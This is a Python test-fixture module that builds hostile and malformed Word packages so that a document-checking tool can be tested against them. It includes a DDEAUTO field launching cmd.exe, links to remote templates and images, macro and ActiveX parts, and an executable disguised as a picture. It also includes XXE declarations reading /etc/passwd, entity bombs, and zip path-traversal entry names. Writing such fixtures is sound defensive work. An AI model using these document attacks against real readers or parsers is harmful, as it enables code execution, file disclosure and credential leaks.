"""Hostile packages, each made of a sound one: what acts by itself, what is unsound."""

import io
import zipfile
from collections.abc import Callable, Iterable
from pathlib import Path

from cchc_cli.documents.templates import builtin_folder
from cchc_cli.ooxml.names import MAIN, OFFICE_URI, TYPES
from cchc_cli.ooxml.package import packed, read_parts, rels_of

Parts = dict[str, bytes]
Change = Callable[[Parts], None]
VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"


def zipped(parts: Iterable[tuple[str, bytes]]) -> bytes:
    """Pack as an attacker does: in any order, under any names, twice if need be."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts:
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def inside(xml: str, part: str = MAIN, before: str = "<w:sectPr") -> Change:
    """Put something into a part, before the last of a tag."""

    def change(parts: Parts) -> None:
        head, tag, tail = parts[part].decode().rpartition(before)
        assert tag, part
        parts[part] = f"{head}{xml}{tag}{tail}".encode()

    return change


def relation(kind: str, target: str, *, of: str = MAIN, mode: str = "External") -> Change:
    """Lead from a part to somewhere, by a kind's last word or its whole address."""
    kind = kind if ":" in kind else f"{OFFICE_URI}/{kind}"

    def change(parts: Parts) -> None:
        name = rels_of(of)
        old = parts.get(name, f'<Relationships xmlns="{_RELATIONS}"></Relationships>'.encode())
        link = f'<Relationship Id="rIdX" Type="{kind}" Target="{target}" TargetMode="{mode}"/>'
        parts[name] = old.replace(b"</Relationships>", f"{link}</Relationships>".encode())

    return change


def typed(part: str, kind: str) -> Change:
    """Give a part a content type."""

    def change(parts: Parts) -> None:
        entry = f'<Override PartName="/{part}" ContentType="{kind}"/></Types>'
        parts[TYPES] = parts[TYPES].replace(b"</Types>", entry.encode())

    return change


def part(name: str, data: bytes | str = b"\x00\x01") -> Change:
    """Put a part in the place of another, or beside all."""
    raw = data.encode() if isinstance(data, str) else data
    return lambda parts: parts.update({name: raw})


def renamed(old: str, new: str) -> Change:
    """Give a part another name, which nothing else is told."""
    return lambda parts: parts.update({new: parts.pop(old)})


def replaced(name: str, old: bytes, new: bytes) -> Change:
    """Change some bytes of a part."""

    def change(parts: Parts) -> None:
        assert old in parts[name]
        parts[name] = parts[name].replace(old, new)

    return change


def both(*changes: Change) -> Change:
    def change(parts: Parts) -> None:
        for each in changes:
            each(parts)

    return change


def field(*codes: str, between: str = "") -> Change:
    """Put a field into the text, its code split over runs as Word does."""
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    runs = (f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    code = between.join(runs)
    end = mark.format("separate") + "<w:r><w:t>1</w:t></w:r>" + mark.format("end")
    return inside(f"<w:p>{mark.format('begin')}{code}{end}</w:p>")


def simple_field(code: str) -> Change:
    return inside(f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>')


def shape(attributes: str, tag: str = "imagedata") -> Change:
    return inside(
        f"<w:p><w:r><w:pict {VML}><v:shape><v:{tag} {attributes}/></v:shape></w:pict></w:r></w:p>"
    )


_QUOTED = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>D</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
)
_MAIN_TYPE = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_MACRO_TYPE = b"application/vnd.ms-word.document.macroEnabled.main+xml"
_SETTINGS = "word/settings.xml"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DANGERS: dict[str, tuple[str, str, Change]] = {
    "picture http": ("picture", "AT04", relation("image", "http://x/a.png")),
    "picture file": ("picture", "AT04", relation("image", "file:///C:/a.png")),
    "picture unc": ("picture", "AT04", relation("image", "\\\\srv\\a.png")),
    "picture of a header": ("picture", "AT04", relation("image", "http://x", of="word/header1.xml")),
    "picture said to be inside": ("picture", "AT04", relation("image", "http://x", mode="Internal")),
    "picture of a share said to be inside": ("picture", "AT04", relation("image", "//srv/a", mode="Internal")),
    "picture above the package": ("picture", "AT04", relation("image", "../../a.png", mode="Internal")),
    "external in other letters": ("picture", "AT04", relation("image", "a.png", mode="EXTERNAL")),
    "vml picture": ("picture", "AT04", shape('src="http://x/a.png"')),
    "vml background": ("picture", "AT04", inside(f'<w:background {VML}><v:background><v:fill src="\\\\srv\\a"/></v:background></w:background>', before="<w:body")),
    "vml link": ("file", "AT05", shape('href="file:///C:/a.exe"', "rect")),
    "svg": ("picture", "AT04", part("word/media/a.svg", '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"><image x:href="http://x/a.png"/></svg>')),
    "svg with a script": ("picture", "AT04", part("word/media/a.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>')),
    "svg with a DTD": ("strange", "AT06", part("word/media/a.svg", '<!DOCTYPE svg SYSTEM "file:///etc/passwd"><svg/>')),
    "missing picture": ("missing", "AT04", relation("image", "NULL", mode="Internal")),
    "missing part of a header": ("missing", "AT04", relation("image", "media/a.png", of="word/header1.xml", mode="Internal")),
    "attached template": ("template", "AT04", both(inside('<w:attachedTemplate r:id="rIdX" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>', _SETTINGS, "</w:settings>"), relation("attachedTemplate", "http://x/a.dotm", of=_SETTINGS))),
    "attached template, no element": ("template", "AT04", relation("attachedTemplate", "file:///C:/a.dotm", of=_SETTINGS)),
    "subdocument file": ("part", "AT04", relation("subDocument", "file:///C:/a.docx")),
    "subdocument": ("part", "AT04", inside('<w:subDoc xmlns:r="r" r:id="rIdX"/>')),
    "INCLUDETEXT": ("field", "AT03", field("INCLUDE", 'TEXT "C:\\a.docx"')),
    "INCLUDEPICTURE": ("field", "AT03", simple_field("  includepicture  &quot;http://x&quot; \\d")),
    "DDEAUTO": ("field", "AT03", field("DDE", "AUTO c:\\windows\\cmd.exe", ' "/k calc"')),
    "DDE deleted by tracking": ("field", "AT03", inside('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:delInstrText>DDE x</w:delInstrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')),
    "DDE in a field": ("field", "AT03", field("IF 1 = ", "2", between=_QUOTED.replace("QUOTE 68", "DDE x"))),
    "name made by a field": ("field", "AT03", field("D", "E cmd", between=_QUOTED)),
    "LINK": ("field", "AT03", field('LINK Excel.Sheet.8 "C:\\a.xls"')),
    "field without an end": ("field", "AT03", inside('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE x</w:instrText></w:r></w:p>')),
    "field of a header": ("field", "AT03", inside('<w:p><w:fldSimple w:instr="DDE x"/></w:p>', "word/header1.xml", "</w:hdr>")),
    "link to a program": ("file", "AT05", relation("hyperlink", "file:///C:/Windows/System32/cmd.exe")),
    "link with a script": ("file", "AT05", relation("hyperlink", "javascript:alert(1)")),
    "link to a share": ("file", "AT05", relation("hyperlink", "\\\\srv\\a.exe")),
    "link to a neighbour": ("file", "AT05", relation("hyperlink", "a.exe")),
    "link field": ("file", "AT05", field('HYPERLINK "file:///C:/a.exe"')),
    "bare link field": ("file", "AT05", field("HYPERLINK \\\\srv\\a.exe")),
    "ole linked": ("ole", "AT02", relation("oleObject", "file:///C:/a.xls")),
    "ole embedded": ("ole", "AT02", both(part("word/embeddings/oleObject1.bin"), relation("oleObject", "embeddings/oleObject1.bin", mode="Internal"))),
    "ole element": ("ole", "AT02", inside(f'<w:p><w:r><w:object {VML}><o:OLEObject Type="Link" ProgID="x"/></w:object></w:r></w:p>')),
    "workbook that no chart has": ("ole", "AT02", both(part("word/embeddings/a.xlsx", b"PK"), relation("package", "embeddings/a.xlsx", mode="Internal"))),
    "altChunk": ("part", "AT04", both(part("word/a.html", "<html/>"), relation("aFChunk", "a.html", mode="Internal"), inside("<w:altChunk/>"))),
    "altChunk outside": ("part", "AT04", relation("aFChunk", "http://x/a.html")),
    "macro": ("macro", "AT01", part("word/vbaProject.bin")),
    "macro in capitals": ("macro", "AT01", part("word/VBAPROJECT.BIN")),
    "macro under another name": ("macro", "AT01", both(part("word/evil.bin"), typed("word/evil.bin", "application/vnd.ms-office.vbaProject"))),
    "macro by its relation": ("macro", "AT01", relation("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "x.xml", mode="Internal")),
    "macro enabled": ("macro", "AT01", replaced(TYPES, _MAIN_TYPE, _MACRO_TYPE)),
    "ribbon": ("macro", "AT01", relation("http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "customUI.xml", of="", mode="Internal")),
    "frame": ("part", "AT04", both(part("word/webSettings.xml", '<w:webSettings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:frameset/></w:webSettings>'), typed("word/webSettings.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.webSettings+xml"))),
    "frame outside": ("part", "AT04", relation("frame", "http://x", of="word/webSettings.xml")),
    "mail merge": ("merge", "AT04", inside("<w:mailMerge/>", _SETTINGS, "</w:settings>")),
    "mail merge source": ("merge", "AT04", relation("mailMergeSource", "file:///C:/a.csv", of=_SETTINGS)),
    "outside of the package": ("outside", "AT04", relation("custom-properties", "http://x", of="")),
    "web extension": ("extension", "AT01", relation("http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "taskpanes.xml", of="", mode="Internal")),
    "activex": ("activex", "AT01", both(part("word/activeX/activeX1.xml", "<a/>"), relation("control", "activeX/activeX1.xml", mode="Internal"))),
    "activex element": ("activex", "AT01", inside("<w:p><w:r><w:object><w:control/></w:object></w:r></w:p>")),
    "program among pictures": ("strange", "AT06", part("word/media/evil.exe")),
    "program called a picture": ("strange", "AT06", part("word/media/evil.png", b"MZ\x90")),
    "script": ("strange", "AT06", part("word/run.ps1", b"x")),
    "script among printers": ("strange", "AT06", part("word/printerSettings/run.ps1", b"x")),
    "script called after printers": ("strange", "AT06", part("word/printerSettings1.ps1", b"x")),
    "script in the bin": ("strange", "AT06", part("[trash]/0000.bat", b"x")),
    "part of no kind of Word's": ("strange", "AT06", both(part("word/a.xml", "<a/>"), typed("word/a.xml", "application/x-msdownload"))),
    "field of a header at an odd place": ("field", "AT03", both(part("word/sub/hdrX.xml", f'<hdr xmlns="{_WORD}"><p><fldSimple w:instr="DDE x" xmlns:w="{_WORD}"/></p></hdr>'), typed("word/sub/hdrX.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"))),
    "field in Strict, its namespace in references": ("field", "AT03", lambda parts: parts.update({MAIN: parts[MAIN].replace(b"http://schemas.openxmlformats.org/wordprocessingml/2006/main", b"http:&#47;&#47;purl.oclc.org/ooxml/wordprocessingml/main").replace(b"<w:sectPr", b'<w:p><w:fldSimple w:instr="DDE x"/></w:p><w:sectPr', 1)})),
}  # fmt: skip
"""By name: the kind, the code of the layout rules, and how a package comes to have it."""


def _dtd(declaration: str) -> bytes:
    return f"<!DOCTYPE x [{declaration}]>".encode()


_BOMB = '<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">'
_XXE = '<!ENTITY a SYSTEM "file:///etc/passwd">'


def declaring(name: str, declaration: str, encoding: str = "utf-8") -> Change:
    """Let a part declare a document type."""

    def change(parts: Parts) -> None:
        text = parts[name].decode().rpartition("?>")[2]
        head = f'<?xml version="1.0" encoding="{encoding}"?>'
        parts[name] = f"{head}{_dtd(declaration).decode()}{text}".encode(encoding)

    return change


def recoded(name: str, encoding: str) -> Change:
    """Write a part in another encoding, and say so."""

    def change(parts: Parts) -> None:
        text = parts[name].decode().rpartition("?>")[2]
        parts[name] = f'<?xml version="1.0" encoding="{encoding}"?>{text}'.encode(
            encoding, "xmlcharrefreplace"
        )

    return change


_RELS = rels_of(MAIN)
_NO_RELATIONS = f'<Relationships xmlns="{_RELATIONS}"/>'
UNSOUND: dict[str, tuple[str, Change]] = {
    "empty text": (MAIN, part(MAIN, "")),
    "html": (MAIN, part(MAIN, "<html/>")),
    "no body": (MAIN, part(MAIN, '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>')),
    "text cut short": (MAIN, lambda parts: parts.update({MAIN: parts[MAIN][:200]})),
    "too deep": (MAIN, inside("<w:sdt>" * 300 + "</w:sdt>" * 300)),
    "text of 11 MB": (MAIN, inside(f"<w:p><w:r><w:t>{'a' * 11_000_000}</w:t></w:r></w:p>")),
    "broken styles": ("word/styles.xml", part("word/styles.xml", "<w:styles>")),
    "styles of another kind": ("word/styles.xml", part("word/styles.xml", "<html/>")),
    "broken header": ("word/header1.xml", part("word/header1.xml", "<w:hdr>")),
    "header of another kind": ("word/header1.xml", part("word/header1.xml", "<a/>")),
    "settings of zeros": ("word/settings.xml", part("word/settings.xml", b"\0\0")),
    "zero in the settings": ("word/settings.xml", replaced("word/settings.xml", b"<w:settings", b"\0<w:settings")),
    "broken part of another kind": ("customXml/item1.xml", part("customXml/item1.xml", "<a")),
    "broken part by its type": ("word/odd.bin", both(part("word/odd.bin", "<a"), typed("word/odd.bin", "application/vnd.x+xml"))),
    "header by its type": ("word/odd.xml", both(part("word/odd.xml", "<a/>"), typed("word/odd.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"))),
    "types {}": (TYPES, part(TYPES, "{}")),
    "types of another kind": (TYPES, part(TYPES, "<Types/>")),
    "types of nothing": (TYPES, part(TYPES, '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')),
    "types not UTF-8": (TYPES, recoded(TYPES, "utf-16")),
    "types in Latin-1": (TYPES, replaced(TYPES, b"<Types", b"<!--\xe9--><Types")),
    "broken relations": (_RELS, part(_RELS, "<Relationships")),
    "relations of another kind": (_RELS, part(_RELS, "<Relationships/>")),
    "relations below relations": (_RELS, replaced(_RELS, b"</Relationships>", b"<Relationships><Relationships/></Relationships></Relationships>")),
    "relations within a relation": ("_rels/.rels", replaced("_rels/.rels", b'document.xml"/>', b'document.xml"><x/></Relationship>')),
    **{f"{what} of no part": (name, part(name, _NO_RELATIONS)) for what, name in (("relations in capitals", "word/_rels/header9.xml.RELS"), ("folder of relations in capitals", "word/_RELS/header9.xml.rels"), ("relations in a folder of their own", "word/header9.xml.rels"))},
    "relations in capitals": (_RELS.upper(), renamed(_RELS, _RELS.upper())),
    "header in capitals": ("WORD/HEADER1.XML", renamed("word/header1.xml", "WORD/HEADER1.XML")),
    "settings in capitals everywhere": ("word/SETTINGS.xml", both(renamed("word/settings.xml", "word/SETTINGS.xml"), replaced(_RELS, b"settings.xml", b"SETTINGS.xml"), replaced(TYPES, b"settings.xml", b"SETTINGS.xml"))),
    "picture in capitals": ("word/MEDIA/a.png", both(part("word/MEDIA/a.png"), relation("image", "media/a.png", mode="Internal"))),
    "relations not UTF-8": ("_rels/.rels", recoded("_rels/.rels", "utf-16")),
    "no way to the text": ("_rels/.rels", part("_rels/.rels", f'<Relationships xmlns="{_RELATIONS}"/>')),
    "a way to another text": ("_rels/.rels", relation("officeDocument", "word/other.xml", of="", mode="Internal")),
    "UTF-16": (MAIN, recoded(MAIN, "utf-16")),
    "EBCDIC": (MAIN, recoded(MAIN, "cp037")),
    "UTF-7": (MAIN, recoded(MAIN, "utf-7")),
    "Windows": ("word/styles.xml", recoded("word/styles.xml", "windows-1252")),
    **{f"{what} in {name}": (name, declaring(name, declaration)) for name in (MAIN, "word/styles.xml", "word/header1.xml", "word/settings.xml", _RELS, TYPES) for what, declaration in (("entities", _BOMB), ("file", _XXE))},
    "DTD in footnotes": ("word/footnotes.xml", part("word/footnotes.xml", _dtd(_BOMB) + b"<a/>")),
    "DTD in UTF-16": (MAIN, declaring(MAIN, _BOMB, "utf-16")),
}  # fmt: skip
"""By name: the part that is told, and how a package comes to be unsound."""
UNTRUSTED: dict[str, list[str]] = {
    "two texts": [MAIN],
    "two texts in other letters": ["word/DOCUMENT.xml"],
    "above the package": ["../../../PWNED"],
    "above, in the middle": ["word/../../PWNED"],
    "percent": ["word/%2e%2e/PWNED"],
    "absolute": ["/etc/PWNED"],
    "drive": ["C:/PWNED"],
    "backslash": ["word\\..\\PWNED"],
    "empty step": ["word//PWNED"],
    "no name": [""],
    "steering the terminal": ["word/\x1b[31mPWNED"],
    "turning the text round": ["word/\u202ePWNED"],
}
"""By name: the entries that are added to an archive."""


def template(folder: Path, change: Change, name: str = "notice") -> Path:
    """Put one of our templates, changed, where a workspace has its own."""
    parts = read_parts(builtin_folder() / f"{name}.docx")
    change(parts)
    path = folder / "templates" / f"{name}.docx"
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(packed(parts))
    return path
